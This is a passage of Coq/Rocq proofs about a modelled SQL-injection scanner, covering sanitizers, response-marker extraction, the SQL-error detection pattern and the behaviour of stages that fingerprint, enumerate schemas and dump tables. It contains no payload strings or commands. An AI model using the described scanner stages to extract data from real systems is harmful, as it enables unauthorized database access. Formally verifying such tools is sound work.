  destruct (vulnerableUrls s !! normalizeUrl url) as [ps|] eqn:E; simpl.
  - rewrite E. simpl. case_bool_decide; [done | by rewrite lookup_insert_eq].
  - rewrite lookup_insert_eq. simpl. by rewrite lookup_insert_eq.
Qed.

Lemma addVulnerableUrl_other url payload s url' :
  url' ≠ normalizeUrl url →
  vulnerableUrls (addVulnerableUrl url payload s) !! url' = vulnerableUrls s !! url'.
Proof.
  intros Hne. unfold addVulnerableUrl. simpl.
  destruct (vulnerableUrls s !! normalizeUrl url) as [ps|] eqn:E; simpl.
  - rewrite E. simpl. case_bool_decide; [done | by rewrite lookup_insert_ne].
  - rewrite lookup_insert_eq. simpl. by rewrite !lookup_insert_ne.
Qed.

Lemma addVulnerableUrl_known url payload s payloads :
  vulnerableUrls s !! normalizeUrl url = Some payloads → payload ∈ payloads →
  addVulnerableUrl url payload s = s.
Proof.
  intros E Hin. unfold addVulnerableUrl. rewrite E. simpl. rewrite E. simpl.
  rewrite bool_decide_eq_true_2 by done. by destruct s.
Qed.

(** Every URL recorded as vulnerable has at least one payload, none twice. *)
Definition payloadsListed (s : URLStore) : Prop :=
  ∀ url payloads, vulnerableUrls s !! url = Some payloads → payloads ≠ [] ∧ NoDup payloads.

Lemma perform_payloadsListed op s : payloadsListed s → payloadsListed (perform op s).
Proof.
  intros Hs. destruct op as [now u|now u|u payload|now]; simpl.
  - destruct (isUrlTested_cases now u s)
      as [-> | [(-> & _) | (d & ps & _ & _ & _ & _ & _ & ->)]]; done.
  - unfold markUrlAsTested. by case_match.
  - intros url payloads. destruct (decide (url = normalizeUrl u)) as [->|Hne].
    + rewrite addVulnerableUrl_lookup. intros [= <-]. cbn zeta.
      destruct (vulnerableUrls s !! normalizeUrl u) as [ps|] eqn:E; simpl.
      * destruct (Hs _ _ E) as [Hne Hnd]. case_bool_decide as Hin; [done|].
        split; [by destruct ps|]. apply NoDup_app. split; [done|].
        split; [|apply NoDup_singleton]. intros x Hx ->%list_elem_of_singleton. done.
      * split; [done | apply NoDup_singleton].
    + rewrite addVulnerableUrl_other by done. apply Hs.
  - done.
Qed.

Lemma performAll_payloadsListed ops s : payloadsListed s → payloadsListed (performAll ops s).
Proof.
  revert s. induction ops as [|op ops IH]; intros s Hs; simpl; [done|].
  by apply IH, perform_payloadsListed.
Qed.

(** X4.  [addVulnerableUrl(url, payload)], on a store created without a
    state file and used through its methods: afterwards the payload is
    listed under the normalized URL; a second call with the same arguments
    changes nothing; every URL recorded as vulnerable has a list of payloads
    that is not empty and holds no payload twice; and the call does not mark
    the URL as tested. *)
Theorem X4_vulnerable_payloads cfg ops url payload :
  stateFile cfg = None →
  let s := performAll ops (new cfg) in
  let s' := addVulnerableUrl url payload s in
  (∃ payloads, vulnerableUrls s' !! normalizeUrl url = Some payloads ∧ payload ∈ payloads) ∧
  addVulnerableUrl url payload s' = s' ∧
  (∀ u payloads, vulnerableUrls s' !! u = Some payloads → payloads ≠ [] ∧ NoDup payloads) ∧
  testedUrls s' = testedUrls s.
Proof.
  intros _ s s'.
  assert (∃ payloads, vulnerableUrls s' !! normalizeUrl url = Some payloads ∧ payload ∈ payloads)
    as (payloads & Hl & Hin).
  { unfold s'. rewrite addVulnerableUrl_lookup. eexists. split; [done|]. cbn zeta.
    case_bool_decide; [done|]. apply elem_of_app. right. by left. }
  split; [eauto|]. split; [by eapply addVulnerableUrl_known|]. split; [|done].
  apply (perform_payloadsListed (AddVulnerableUrl url payload) s), performAll_payloadsListed.
  intros u ps. simpl. by rewrite lookup_empty.
Qed.

(** *** Cleaning up *)

Lemma cleanup_seen_expired now s d :
  expired now s d → seenDomains (cleanupOldEntries now s) !! d = None.
Proof. intros He. simpl. apply map_lookup_filter_None. right. intros x _ Hne. by apply Hne. Qed.

Lemma cleanup_seen_kept now s d :
  ¬ expired now s d → seenDomains (cleanupOldEntries now s) !! d = seenDomains s !! d.
Proof.
  intros He. simpl. destruct (seenDomains s !! d) as [x|] eqn:E.
  - by apply map_lookup_filter_Some.
  - apply map_lookup_filter_None. by left.
Qed.

Lemma cleanup_last_kept now s d :
  ¬ expired now s d → lastTestedTime (cleanupOldEntries now s) !! d = lastTestedTime s !! d.
Proof.
  intros He. simpl. destruct (lastTestedTime s !! d) as [x|] eqn:E.
  - by apply map_lookup_filter_Some.
  - apply map_lookup_filter_None. by left.
Qed.

Lemma cleanup_last now s d t :
  lastTestedTime (cleanupOldEntries now s) !! d = Some t →
  lastTestedTime s !! d = Some t ∧ now - t ≤ cooldownPeriod (config s).
Proof.
  simpl. intros [Ht Hne]%map_lookup_filter_Some. split; [done|].
  destruct (decide (now - t ≤ cooldownPeriod (config s))) as [|Hgt]; [done|].
  exfalso. apply Hne. exists t. split; [done | lia].
Qed.

Lemma cleanup_not_expired now s d : ¬ expired now (cleanupOldEntries now s) d.
Proof. intros (t & Ht%cleanup_last & Hgt). simpl in Hgt. lia. Qed.

(** X5.  [cleanupOldEntries] at time [now]: it does not change what the
    admission check answers at that time for any URL; it leaves the set of
    tested URLs as it is, so that a tested URL stays rejected; no domain it
    keeps was last tested more than the cooldown ago; and running it again at
    the same time changes nothing. *)
Theorem X5_cleanup now s url :
  let s' := cleanupOldEntries now s in
  (isUrlTested now url s').1 = (isUrlTested now url s).1 ∧
  testedUrls s' = testedUrls s ∧
  (∀ d t, lastTestedTime s' !! d = Some t → now - t ≤ cooldownPeriod (config s)) ∧
  cleanupOldEntries now s' = s'.
Proof.
  intros s'. split; [|split; [done|split]].
  - unfold isUrlTested. change (testedUrls s') with (testedUrls s).
    change (config s') with (config s).
    case_bool_decide; [done|].
    destruct (truthy (getDomain url)) as [d|]; [|done].
    destruct (decide (expired now s d)) as [He|He].
    + unfold s'. rewrite (cleanup_seen_expired _ _ _ He).
      destruct He as (t & Ht & Hgt).
      destruct (seenDomains s !! d); [|done]. case_bool_decide; [|done].
      rewrite Ht. simpl. by rewrite bool_decide_eq_false_2 by lia.
    + unfold s'. rewrite (cleanup_seen_kept _ _ _ He), (cleanup_last_kept _ _ _ He).
      destruct (seenDomains s !! d); [|done]. by repeat case_bool_decide.
  - intros d t Ht. by apply cleanup_last in Ht as [_ ?].
  - unfold cleanupOldEntries at 1.
    rewrite !map_filter_id by (intros d x _; apply cleanup_not_expired).
    by destruct s'.
Qed.

(** *** Asking twice *)

(** X6.  With a limit of at least one path per domain, an admission check
    that has answered false answers false again at any later time, and the
    second check leaves the store as the first one left it: only a commit
    ends an admission. *)
Theorem X6_admission_stands now now' url s :
  1 ≤ maxPathsPerDomain (config s) →
  (isUrlTested now url s).1 = false →
  isUrlTested now' url (isUrlTested now url s).2 = (false, (isUrlTested now url s).2).
Proof.
  intros Hmax.
  destruct (isUrlTested_cases now url s)
    as [-> | [(-> & Hn & Hlt) | (d & ps & Hd & Hs & Hn & _ & _ & ->)]]; simpl; [done | |];
    intros _.
  - destruct (truthy (getDomain url)) as [d|] eqn:Hd.
    + destruct (seenDomains s !! d) as [ps|] eqn:Hs.
      * eapply isUrlTested_below; eauto.
      * eapply isUrlTested_unseen; eauto.
    + unfold isUrlTested. by rewrite bool_decide_eq_false_2, Hd.
  - apply isUrlTested_below with d ∅; [done | done | apply lookup_insert_eq |].
    rewrite size_empty. simpl. lia.
Qed.

End StoreMore.

(** ** [src/utils.js]: file names and payloads *)

Section FileNames.
Import Utils.

Lemma chars_mapChars f s : chars (mapChars f s) = map f (chars s).
Proof. induction s as [|c s IH]; simpl; congruence. Qed.

Lemma mapChars_length f s : String.length (mapChars f s) = String.length s.
Proof. induction s as [|c s IH]; simpl; congruence. Qed.

Lemma mapChars_fixed f s : (∀ c, c ∈ chars s → f c = c) → mapChars f s = s.
Proof.
  induction s as [|c s IH]; simpl; [done|]. intros Hf.
  rewrite Hf by (by left). rewrite IH; [done|]. intros; apply Hf. by right.
Qed.

(** X7.  [sanitizeFilename] returns a string of the length of its argument,
    made of ASCII letters, digits and underscores only; it is idempotent, and
    it returns its argument unchanged exactly when the argument is made of
    such characters. *)
Theorem X7_sanitizeFilename filename :
  String.length (sanitizeFilename filename) = String.length filename ∧
  (∀ c, c ∈ chars (sanitizeFilename filename) → isAlphaNum c = true ∨ c = "_"%char) ∧
  sanitizeFilename (sanitizeFilename filename) = sanitizeFilename filename ∧
  (sanitizeFilename filename = filename ↔
   ∀ c, c ∈ chars filename → isAlphaNum c = true ∨ c = "_"%char).
Proof.
  unfold sanitizeFilename, replaceChars.
  set (f := λ c, if negb (isAlphaNum c) then "_"%char else c).
  assert (∀ c, c ∈ chars (mapChars f filename) → isAlphaNum c = true ∨ c = "_"%char) as Hout.
  { intros c. rewrite chars_mapChars. intros (d & -> & _)%list_elem_of_fmap.
    unfold f. destruct (isAlphaNum d) eqn:E; simpl; auto. }
  assert (∀ s, (∀ c, c ∈ chars s → isAlphaNum c = true ∨ c = "_"%char) → mapChars f s = s)
    as Hfixed.
  { intros s Hs. apply mapChars_fixed. intros c [Hc| ->]%Hs; unfold f; [by rewrite Hc | done]. }
  split; [apply mapChars_length|]. split; [exact Hout|]. split; [by apply Hfixed|].
  split; [|apply Hfixed]. intros Hfix c Hc. apply Hout. by rewrite Hfix.
Qed.

End FileNames.

Section SanitizeMore.
Import Utils.

Lemma removeChars_fixed cls s : (∀ c, c ∈ chars s → cls c = false) → removeChars cls s = s.
Proof.
  induction s as [|c s IH]; simpl; [done|]. intros Hc.
  rewrite Hc by (by left). rewrite IH; [done|]. intros; apply Hc. by right.
Qed.

(** X8.  [sanitizePayload] is idempotent: it accepts the string it has
    returned, under the same limit, and returns it unchanged. *)
Theorem X8_sanitizePayload_idempotent s maxLength p :
  sanitizePayload (Str s) maxLength = Ok p → sanitizePayload (Str p) maxLength = Ok p.
Proof.
  intros (_ & Hlen & Hchars & Htrim)%sanitizePayload_ok.
  rewrite sanitizePayload_fits by done. by rewrite removeChars_fixed, Htrim.
Qed.

End SanitizeMore.

(** ** Reading responses *)

Section MarkersMore.
Import Scanner.

(** A non-empty string of characters of the class [[a-zA-Z0-9_.-]]. *)
Definition isToken (s : string) : Prop :=
  s ≠ "" ∧ ∀ c, c ∈ chars s → isMarkerChar c = true.

Lemma spanMarker_chars s c : c ∈ chars (spanMarker s).1 → isMarkerChar c = true.
Proof.
  induction s as [|d s IH]; simpl; [by intros ?%elem_of_nil|].
  destruct (isMarkerChar d) eqn:E; [|by intros ?%elem_of_nil].
  destruct (spanMarker s) as [run rest]. simpl in *.
  intros [->|Hc]%elem_of_cons; auto.
Qed.

Lemma matchMarkerAt_token s run len :
  matchMarkerAt s = Some (run, len) →
  isToken run ∧ len = (String.length run + 2)%nat ∧ ∃ rest, s = run +:+ "::" +:+ rest.
Proof.
  unfold matchMarkerAt. pose proof (spanMarker_app s) as Hs.
  pose proof (spanMarker_chars s) as Hc.
  destruct (spanMarker s) as [r rest]. simpl in Hs, Hc.
  destruct (negb (bool_decide (r = "")) && startsWith "::" rest) eqn:E; [|done].
  intros [= <- <-]. apply andb_true_iff in E as [Hne [rest' ->]%startsWith_spec].
  split; [split; [|done]|split; [done|eauto]].
  apply negb_true_iff, bool_decide_eq_false in Hne. done.
Qed.

Lemma marker_not_space c : isMarkerChar c = true → isWhiteSpace c = false.
Proof.
  destruct c as [[] [] [] [] [] [] [] []]; vm_compute; congruence.
Qed.

Lemma token_trim s : isToken s → trim s = s.
Proof.
  intros [Hne Hc]. assert (∀ t, (∀ c, c ∈ chars t → isWhiteSpace c = false) → trimEnd t = t) as He.
  { induction t as [|c t IH]; simpl; [done|]. intros Ht.
    rewrite IH by (intros; apply Ht; by right).
    destruct t; [by rewrite Ht by (by left) | done]. }
  unfold trim. destruct s as [|c s]; [done|]. simpl.
  rewrite (marker_not_space c) by (apply Hc; by left).
  apply He. intros d Hd. by apply marker_not_space, Hc.
Qed.

Lemma allMarkers_items skip s item :
  item ∈ allMarkers skip s → isToken item ∧ includes (item +:+ "::") s = true.
Proof.
  revert skip. induction s as [|c s IH]; intros skip; simpl; [by intros ?%elem_of_nil|].
  assert (∀ k, item ∈ allMarkers k s →
               isToken item ∧
               startsWith (item +:+ "::") (String c s) || includes (item +:+ "::") s = true)
    as Hrest.
  { intros k [? Hin]%IH. split; [done|]. rewrite Hin. apply orb_true_r. }
  destruct skip as [|k]; [|apply Hrest].
  destruct (matchMarkerAt (String c s)) as [[run len]|] eqn:E; [|apply Hrest].
  intros [->|Hin]%elem_of_cons; [|by eapply Hrest].
  apply matchMarkerAt_token in E as (Ht & _ & rest & Hs). split; [done|].
  apply orb_true_iff. left. apply startsWith_spec. exists rest. by rewrite append_assoc.
Qed.

Lemma firstMarker_head s : firstMarker s = head (allMarkers 0 s).
Proof.
  induction s as [|c s IH]; simpl; [done|].
  destruct (matchMarkerAt (String c s)) as [[run len]|]; done.
Qed.

Lemma filter_all {A} (P : A → Prop) `{!∀ x, Decision (P x)} (l : list A) :
  Forall P l → filter P l = l.
Proof.
  induction 1 as [|x l Hx _ IH]; [done|]. by rewrite filter_cons_True, IH.
Qed.

(** The filter [item => item.trim()] of [extractListFromResponse] removes
    nothing. *)
Lemma extractList_all body : extractListFromResponse body = allMarkers 0 body.
Proof.
  unfold extractListFromResponse. apply filter_all.
  apply Forall_forall. intros item [Ht _]%allMarkers_items.
  rewrite (token_trim _ Ht). apply Ht.
Qed.

Lemma extractList_tokens data : Forall isToken (extractListFromResponse data).
Proof.
  rewrite extractList_all. apply Forall_forall. by intros item [? _]%allMarkers_items.
Qed.

Lemma extractData_token data item : extractDataFromResponse data = Some item → isToken item.
Proof.
  unfold extractDataFromResponse. rewrite firstMarker_head.
  intros Hh. destruct (allMarkers 0 data) as [|x l] eqn:E; [done|]. injection Hh as ->.
  assert (item ∈ allMarkers 0 data) as [? _]%allMarkers_items by (rewrite E; by left). done.
Qed.

(** X9.  The value [extractDataFromResponse] reads off a body is the first
    item of the list [extractListFromResponse] reads off it, [null] when the
    list is empty; every item of the list is a non-empty string of characters
    of the class [[a-zA-Z0-9_.-]] that the body holds followed by ["::"]; and
    a body without ["::"] gives the empty list. *)
Theorem X9_extraction body :
  extractDataFromResponse body = head (extractListFromResponse body) ∧
  (∀ item, item ∈ extractListFromResponse body →
     item ≠ "" ∧ (∀ c, c ∈ chars item → isMarkerChar c = true) ∧
     includes (item +:+ "::") body = true) ∧
  (includes "::" body = false → extractListFromResponse body = []).
Proof.
  rewrite extractList_all. split; [apply firstMarker_head|]. split.
  - intros item [[Hne Hc] Hin]%allMarkers_items. done.
  - intros Hno. destruct (allMarkers 0 body) as [|item l] eqn:E; [done|].
    assert (item ∈ allMarkers 0 body) as [_ Hin]%allMarkers_items by (rewrite E; by left).
    apply includes_spec in Hin as (l' & r & ->).
    assert (includes "::" (l' +:+ (item +:+ "::") +:+ r) = true); [|congruence].
    apply includes_spec. exists (l' +:+ item), r. by rewrite !append_assoc.
Qed.

End MarkersMore.

Section Signatures.
Import Scanner.

Lemma foldChar_lowerChar d : foldChar (lowerChar d) = lowerChar d.
Proof. destruct d as [[] [] [] [] [] [] [] []]; reflexivity. Qed.

Lemma matchHere_literal p s :
  (∀ c, c ∈ chars p → foldChar c = c) → (∀ d, d ∈ chars s → foldChar d = d) →
  matchHere (literal p) s = startsWith p s.
Proof.
  revert s. induction p as [|c p IH]; intros s Hp Hs; simpl; [done|].
  destruct s as [|d r]; [done|]. simpl in *.
  rewrite Hp, Hs by (by left). rewrite IH; [done | |]; intros; [apply Hp | apply Hs]; by right.
Qed.

(** On a string without upper-case ASCII letters, a pattern that is a
    lower-case word matches where the word occurs. *)
Lemma test_literal p s :
  (∀ c, c ∈ chars p → foldChar c = c) → (∀ d, d ∈ chars s → foldChar d = d) →
  test (literal p) s = includes p s.
Proof.
  intros Hp. induction s as [|d r IH]; intros Hs; simpl.
  - by rewrite matchHere_literal.
  - rewrite matchHere_literal by done. rewrite IH; [done|]. intros; apply Hs. by right.
Qed.

Lemma toLowerCase_folded s d : d ∈ chars (toLowerCase s) → foldChar d = d.
Proof.
  unfold toLowerCase. rewrite chars_mapChars. intros (x & -> & _)%list_elem_of_fmap.
  apply foldChar_lowerChar.
Qed.

(** X10.  The test of [testBasicVulnerability] on a response body, the
    pattern [/sql|error|syntax/i] on the lower-cased body, holds exactly when
    the lower-cased body contains [sql], [error] or [syntax]; so every body
    that [findColumnCount] rejects, for containing [error], is a body on which
    the detection test holds. *)
Theorem X10_signatures data :
  sqlHit data = includes "sql" (toLowerCase data) || includes "error" (toLowerCase data) ||
                includes "syntax" (toLowerCase data) ∧
  (columnHit data = false → sqlHit data = true).
Proof.
  assert (sqlHit data = includes "sql" (toLowerCase data) || includes "error" (toLowerCase data) ||
                        includes "syntax" (toLowerCase data)) as Hs.
  { unfold sqlHit, matchesSqlError.
    rewrite !test_literal; try apply toLowerCase_folded; try done;
      intros c Hc; simpl in Hc;
      repeat (apply elem_of_cons in Hc as [->|Hc]; [reflexivity|]); by apply elem_of_nil in Hc. }
  split; [done|]. rewrite Hs. unfold columnHit.
  intros ->%negb_false_iff. by rewrite orb_true_r.
Qed.

End Signatures.

(** ** The scanner: scans that send nothing, scans that fail *)

Section ScanEdges.
Import Scanner.
Local Open Scope js_scope.
Context `{Environment}.

Lemma probes_no_parameters u v : searchParams u = [] → probes u v = [].
Proof. unfold probes. by intros ->. Qed.

Lemma detection_no_parameters config u payloads :
  searchParams u = [] →
  detection config u payloads = (false, map (λ _, Delay (requestDelay config)) payloads).
Proof.
  intros Hu. induction payloads as [|p l IH]; [done|]. simpl.
  unfold payloadEvents. rewrite (probes_no_parameters _ _ Hu). simpl. by rewrite IH.
Qed.

(** X12.  A URL that parses and has no query parameter, scanned with a catalog
    whose detection payloads fit the limit: no request is sent; the scan
    waits [requestDelay] once per detection payload, logs that nothing was
    detected and returns the result object as it was created, not
    vulnerable. *)
Theorem X12_no_parameters url u options :
  let config := spread SCAN_CONFIG options in
  parseURL url = Some u → searchParams u = [] →
  (∀ p, p ∈ DETECTION_PAYLOADS → Z.of_nat (String.length p) ≤ maxPayloadLength config) →
  run url options =
    (Ok emptyResult,
     mkWorld emptyResult
       (map (λ _, Delay (requestDelay config)) DETECTION_PAYLOADS ++
        [Log (mkLog "INFO" "No vulnerabilities detected")])).
Proof.
  intros config Hu Hsp Hfit. unfold run, testSQLInjection.
  rewrite (validateUrl_parsed _ _ Hu). cbn [negb]. cbn zeta. fold config.
  unfold tryCatch, bind at 1.
  rewrite (testBasicVulnerability_run url u config _ Hu Hfit).
  rewrite (detection_no_parameters _ _ _ Hsp). cbn [fst snd negb].
  unfold bind, log, perform, getResult. cbn [fst snd].
  rewrite emits_snoc. f_equal.
  - f_equal. rewrite emits_result. apply replay_silent.
    apply Forall_app. split; [|by repeat constructor].
    apply Forall_forall. by intros ev (p & -> & _)%list_elem_of_fmap.
  - assert (∀ evs, emits evs initialWorld = mkWorld (replay evs emptyResult) evs) as Hw.
    { intros evs. pose proof (emits_trace evs initialWorld) as Ht.
      pose proof (emits_result evs initialWorld) as Hr.
      destruct (emits evs initialWorld). simpl in *. by subst. }
    rewrite Hw. f_equal. apply replay_silent.
    apply Forall_app. split; [|by repeat constructor].
    apply Forall_forall. by intros ev (p & -> & _)%list_elem_of_fmap.
Qed.

(** The loop over the catalog, on a list that ends where the next payload is. *)
Lemma forOf_app {X R} (l1 l2 : list X) (body : X → M (option R)) w :
  (forOf l1 body w).1 = Ok None →
  forOf (l1 ++ l2) body w = forOf l2 body (forOf l1 body w).2.
Proof.
  revert w. induction l1 as [|x l1 IH]; intros w; simpl; [done|].
  unfold bind. destruct (body x w) as [[[v|]|e] w1]; simpl; [done | apply IH | done].
Qed.

(** The message of [sanitizePayload] for a payload that is too long. *)
Definition oversize (config : ScanConfig) : string :=
  "Payload exceeds maximum length of " +:+ showZ (maxPayloadLength config) +:+ " characters".

(** X13.  [sanitizePayload] is called outside the [try] of the detection
    loop: when the loop comes to a detection payload that is longer than
    [maxPayloadLength], the payloads before it having fitted and found
    nothing, the scan throws the error of [sanitizePayload]; the payloads
    after it are not tried, the result object is as it was created, and the
    last thing logged is the fatal error. *)
Theorem X13_oversize_payload url u options l1 p l2 :
  let config := spread SCAN_CONFIG options in
  parseURL url = Some u →
  DETECTION_PAYLOADS = l1 ++ p :: l2 →
  (∀ q, q ∈ l1 → Z.of_nat (String.length q) ≤ maxPayloadLength config ∧
                 ¬ answers sqlHit (probes u (sanitized q))) →
  Z.of_nat (String.length p) > maxPayloadLength config →
  let out := run url options in
  out.1 = Throw (oversize config) ∧
  result out.2 = emptyResult ∧
  trace out.2 = rounds config u l1 ++
                [Log (mkLog "ERROR" ("Fatal error during scan: " +:+ oversize config))].
Proof.
  intros config Hu Hcat Hl1 Hp out.
  assert (∀ q, q ∈ l1 → (payloadEvents config u q).1 = false) as Hno.
  { intros q Hq. destruct (payloadEvents config u q).1 eqn:E; [|done].
    apply payloadEvents_found in E. by apply Hl1 in E. }
  assert (forOf l1 (detectPayload url config) initialWorld =
            (Ok None, emits (rounds config u l1) initialWorld)) as Hfirst.
  { rewrite (forOf_detection url u) by (auto; intros; by apply Hl1).
    by rewrite detection_none. }
  assert (detectPayload url config p (emits (rounds config u l1) initialWorld) =
            (Throw (oversize config), emits (rounds config u l1) initialWorld)) as Hthrow.
  { unfold detectPayload, sanitizePayload, Utils.sanitizePayload, bind, lift.
    destruct (Z.gtb_spec (Z.of_nat (String.length p)) (maxPayloadLength config)); [done | lia]. }
  assert (out = (Throw (oversize config),
                 emits (rounds config u l1 ++
                        [Log (mkLog "ERROR" ("Fatal error during scan: " +:+ oversize config))])
                       initialWorld)) as ->.
  { unfold out, run, testSQLInjection. rewrite (validateUrl_parsed _ _ Hu). cbn [negb]. cbn zeta.
    fold config. unfold tryCatch, bind at 1, testBasicVulnerability, bind at 1.
    rewrite Hcat, forOf_app by (by rewrite Hfirst). rewrite Hfirst. cbn [snd].
    simpl forOf. unfold bind at 1. rewrite Hthrow.
    unfold bind, log, perform, throw. by rewrite emits_snoc. }
  cbn [fst snd]. split; [done|]. rewrite emits_result, emits_trace. split; [|done].
  apply replay_silent, Forall_app. split; [by apply rounds_silent | by repeat constructor].
Qed.

End ScanEdges.

(** ** The scanner: the stages after detection *)

Section Extraction.
Import Scanner.
Local Open Scope js_scope.
Context `{Environment}.
Context (url : string) (config : ScanConfig).

(** What the stages that follow detection may do: they send requests, log and
    wait, and they write to the result object only names read off a response
    by the marker pattern, a schema only if it passes the filter on system
    schemas, and the rows of a table only if there are some. *)
Definition Extracting (ev : Event) : Prop :=
  match ev with
  | Mutate SetVulnerable | Mutate (PushSuccessfulPayload _) | WriteFile _ => False
  | Mutate (SetDatabaseInfo _ data) => isToken data
  | Mutate (AddDatabase schema) => isToken schema ∧ isUserSchema schema = true
  | Mutate (AddTable table) => isToken table
  | Mutate (SetTableData _ rows) => rows ≠ [] ∧ Forall isToken rows
  | _ => True
  end.

Local Abbreviation anything := (λ _, True).
Local Abbreviation anyRound := (roundPost (λ _ : URL, True) (λ _, True) (λ _, True)).

Ltac step := eapply emits_bind with (Q1 := anything); [ | intros ? _ | done ].
Ltac step_as x := eapply emits_bind with (Q1 := anything); [ | intros x _ | done ].

Ltac quiet :=
  unfold log, mutate, delay, sanitizePayload, newURL;
  repeat first
    [ apply emits_ret; done
    | apply emits_throw; done
    | apply emits_lift; done
    | apply emits_perform; done
    | apply emits_getResult; done
    | apply emits_pLimit; done
    | apply emits_httpGet; done
    | step ].

Lemma newURL_quiet : Emits Extracting anything (newURL url).
Proof. unfold newURL. destruct (parseURL url); quiet. Qed.

Lemma rounds_quiet {R} testUrl (body : string → URL → M (URL * option R)) :
  (∀ param u, Emits Extracting anything (body param u)) →
  Emits Extracting anything (forParams testUrl body).
Proof.
  intros Hbody. unfold forParams. eapply emits_weaken with (Q := anyRound); [done|].
  apply emits_forParamsFrom; [done | done |]. intros param u _.
  eapply emits_weaken; [|apply Hbody]. by intros [[]|].
Qed.

Lemma findColumnCount_quiet : Emits Extracting anything (findColumnCount url config).
Proof.
  unfold findColumnCount. step; [|quiet]. apply emits_forOf; [|done].
  intros [i payload] _. unfold probeColumns. step; [quiet|].
  eapply emits_tryCatch with (Q1 := anything); [ | done | intros; quiet ].
  step; [apply newURL_quiet|]. step_as round.
  - apply rounds_quiet. intros param u. cbn zeta. step; [quiet|]. destruct (negb _); quiet.
  - destruct round as [t [r|]]; quiet.
Qed.

Lemma extractSystemInfo_quiet columnCount :
  Emits Extracting anything (extractSystemInfo url columnCount config).
Proof.
  unfold extractSystemInfo. step; [quiet|]. step; [|quiet]. apply emits_forOf; [|done].
  intros [key payload] _. step; [quiet|].
  eapply emits_tryCatch with (Q1 := anything); [ | done | intros; quiet ].
  step; [apply newURL_quiet|]. step; [|quiet].
  apply rounds_quiet. intros param u. cbn zeta. step; [quiet|].
  destruct (extractDataFromResponse _) as [data|] eqn:E; [|quiet].
  step; [|quiet]. apply emits_perform; [|done]. by apply extractData_token in E.
Qed.

Lemma extractDatabaseSchemas_quiet columnCount :
  Emits Extracting anything (extractDatabaseSchemas url columnCount config).
Proof.
  unfold extractDatabaseSchemas. step; [quiet|]. step; [quiet|].
  eapply emits_tryCatch with (Q1 := anything); [ | done | intros; quiet ].
  step; [apply newURL_quiet|]. step; [|quiet].
  apply rounds_quiet. intros param u. cbn zeta. step_as data; [quiet|]. step; [|quiet].
  apply emits_forOf; [|done]. intros schema [Huser Hin]%list_elem_of_filter.
  step; [|quiet]. apply emits_perform; [|done]. split; [|done].
  pose proof (extractList_tokens data) as Ht. rewrite Forall_forall in Ht. by apply Ht.
Qed.

Lemma columnsTask_quiet columnCount dbName param table testUrl :
  isToken table →
  Emits Extracting (taskPost (λ _, True)) (columnsTask columnCount dbName param table config testUrl).
Proof.
  intros Ht. unfold columnsTask, mutate.
  eapply emits_bind with (Q1 := returns anything); [by apply emits_perform | intros ? _ | done].
  destruct (Utils.sanitizePayload _ _) as [v|e]; [|by apply emits_ret]. cbn zeta.
  eapply emits_bind with (Q1 := returns anything); [ | | done ].
  - eapply emits_settle with (Q1 := anything); [|done]. by apply emits_httpGet.
  - intros [data|e] _; [|by apply emits_ret].
    eapply emits_bind with (Q1 := returns anything);
      [by apply emits_perform | intros ? _ | done].
    by apply emits_ret.
Qed.

Lemma extractDatabaseStructure_quiet columnCount dbName :
  Emits Extracting anything (extractDatabaseStructure url columnCount dbName config).
Proof.
  unfold extractDatabaseStructure. step; [quiet|]. step; [quiet|].
  eapply emits_tryCatch with (Q1 := anything); [ | done | intros; quiet ].
  step; [apply newURL_quiet|]. step; [|quiet].
  apply rounds_quiet. intros param u. cbn zeta. step_as data; [quiet|]. step; [quiet|].
  eapply emits_bind with (Q1 := taskPost (λ _, True)); [ | | done ].
  - apply emits_promiseAll; [done|].
    intros task s (table & -> & Hin)%list_elem_of_fmap _. apply columnsTask_quiet.
    pose proof (extractList_tokens data) as Ht. rewrite Forall_forall in Ht. by apply Ht.
  - intros [t' o] _. quiet.
Qed.

Lemma dumpTask_quiet columnCount table :
  Emits Extracting anything (dumpTask url columnCount config table).
Proof.
  unfold dumpTask. step; [quiet|]. step; [quiet|]. cbn zeta.
  case_bool_decide; [quiet|]. step; [quiet|].
  eapply emits_tryCatch with (Q1 := anything); [ | done | intros; quiet ].
  step; [apply newURL_quiet|]. step; [|quiet].
  apply rounds_quiet. intros param u. cbn zeta. step; [quiet|].
  case_bool_decide as Hlen; [|quiet]. step; [|quiet].
  apply emits_perform; [|done]. split; [|apply extractList_tokens].
  intros Hnil. rewrite Hnil in Hlen. simpl in Hlen. lia.
Qed.

Lemma dumpAllTables_quiet columnCount :
  Emits Extracting anything (dumpAllTables url columnCount config).
Proof.
  unfold dumpAllTables. step; [quiet|]. step; [quiet|]. step; [quiet|].
  apply emits_awaitAll; [|done].
  intros task (table & -> & _)%list_elem_of_fmap. apply dumpTask_quiet.
Qed.


(** *** Detection, whatever the catalog *)

(** Requests, log lines and delays: effects that neither write to the
    result object nor to a file. *)
Definition idle (ev : Event) : Prop :=
  match ev with
  | Request _ | Log _ | Delay _ => True
  | _ => False
  end.

Lemma idle_silent ev : idle ev → silent ev.
Proof. by destruct ev. Qed.

Lemma idle_requests urls : Forall idle (map Request urls).
Proof. induction urls; constructor; done. Qed.

Lemma payloadEvents_shape u payload :
  let out := payloadEvents config u payload in
  if out.1
  then ∃ evs, out.2 = evs ++ [Mutate (PushSuccessfulPayload (sanitized payload))] ∧
              Forall idle evs
  else Forall idle out.2.
Proof.
  unfold payloadEvents. destruct (scan sqlHit _) as [sent|sent message|sent]; simpl.
  - eexists (map Request sent ++ [_]). rewrite <- app_assoc. split; [done|].
    apply Forall_app. split; [apply idle_requests | by repeat constructor].
  - apply Forall_app. split; [apply idle_requests | by repeat constructor].
  - apply Forall_app. split; [apply idle_requests | by repeat constructor].
Qed.

Lemma detection_shape u payloads w :
  parseURL url = Some u →
  let out := forOf payloads (detectPayload url config) w in
  ∃ evs, out.2 = emits evs w ∧
    match out.1 with
    | Ok (Some found) =>
        found = true ∧
        ∃ evs1 payload, evs = evs1 ++ [Mutate (PushSuccessfulPayload (sanitized payload))] ∧
                        Forall idle evs1 ∧ payload ∈ payloads
    | _ => Forall idle evs
    end.
Proof.
  intros Hu. revert w. induction payloads as [|p rest IH]; intros w; simpl.
  { exists []. by split. }
  unfold bind.
  destruct (decide (Z.of_nat (String.length p) ≤ maxPayloadLength config)) as [Hfit|Hbig].
  - rewrite (detectPayload_run _ u) by done.
    pose proof (payloadEvents_shape u p) as Hp. cbn zeta in Hp.
    destruct (payloadEvents config u p) as [[] evs]; cbn [fst snd] in *.
    + destruct Hp as (evs1 & -> & Hs). eexists. split; [done|]. split; [done|].
      exists evs1, p. split; [done|]. split; [done | by left].
